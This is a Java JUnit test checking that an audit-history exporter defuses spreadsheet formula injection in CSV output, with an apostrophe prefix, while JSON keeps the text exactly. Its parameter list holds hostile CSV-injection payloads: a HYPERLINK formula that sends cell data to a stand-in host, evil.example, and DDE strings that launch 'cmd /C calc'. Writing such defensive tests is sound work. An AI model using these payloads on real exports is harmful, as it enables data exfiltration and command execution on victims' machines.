package org.iepmp.lifecycle.history;

import static org.assertj.core.api.Assertions.assertThat;
import static org.iepmp.lifecycle.history.HistoryFixture.CLUSTER;
import static org.iepmp.lifecycle.history.HistoryFixture.T0;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.ByteArrayOutputStream;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.iepmp.lifecycle.api.Actor;
import org.iepmp.lifecycle.api.Completion;
import org.iepmp.lifecycle.api.ExportFormat;
import org.iepmp.lifecycle.api.HistoryFilter;
import org.iepmp.lifecycle.api.NewOperation;
import org.iepmp.lifecycle.api.OperationAction;
import org.iepmp.lifecycle.api.Reason;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Text typed by a technician or quoted from a repository reaches the audit export: in CSV a cell a spreadsheet would
 * run as a formula is neutralised the OWASP way (a leading apostrophe); JSON keeps every character exactly.
 */
class HistoryExportInjectionTest {

    @TempDir
    Path dir;

    @ParameterizedTest
    @ValueSource(strings = {"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"})
    void formulaPrefixesAreNeutralisedInCsvAndExactInJson(String hostile) throws Exception {
        try (SqliteHistoryStore store = new HistoryFixture(dir).open()) {
            NewOperation op = new NewOperation(CLUSTER, new Actor("operator", hostile), new Reason(hostile, hostile), T0,
                    OperationAction.INSTALL, "mes", null, "iepmp", "vendor", null, "1.0.0", null,
                    HistoryFixture.valuesWithSecret(), "install mes", null);
            long id = store.beginOperation(op);
            store.finishOperation(id, Completion.failed(T0.plusSeconds(5), "KUBE_TIMEOUT", hostile));

            ByteArrayOutputStream json = new ByteArrayOutputStream();
            store.export(HistoryFilter.ALL, ExportFormat.JSON, json);
            JsonNode row = new ObjectMapper().readTree(json.toByteArray()).get(0);
            // A reason is stored trimmed; what is stored is exported exactly.
            assertThat(row.get("reason").asText()).as("JSON keeps the text exactly").isEqualTo(hostile.strip());

            ByteArrayOutputStream csv = new ByteArrayOutputStream();
            store.export(HistoryFilter.ALL, ExportFormat.CSV, csv);
            List<CSVRecord> records = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).build()
                    .parse(new StringReader(csv.toString(StandardCharsets.UTF_8))).getRecords();
            for (String column : List.of("technician", "reason", "ticket", "error_message")) {
                String stored = row.get(column).asText();
                assertThat(records.get(0).get(column)).as(column).isEqualTo("'" + stored);
            }
        }
    }

    @Test
    void ordinaryTextIsLeftAlone() {
        assertThat(HistoryExporter.formulaSafe("routine update, line 3")).isEqualTo("routine update, line 3");
        assertThat(HistoryExporter.formulaSafe("2026-11-01T08:00:00Z")).isEqualTo("2026-11-01T08:00:00Z");
        assertThat(HistoryExporter.formulaSafe("")).isEmpty();
        assertThat(HistoryExporter.formulaSafe(null)).isNull();
    }
}
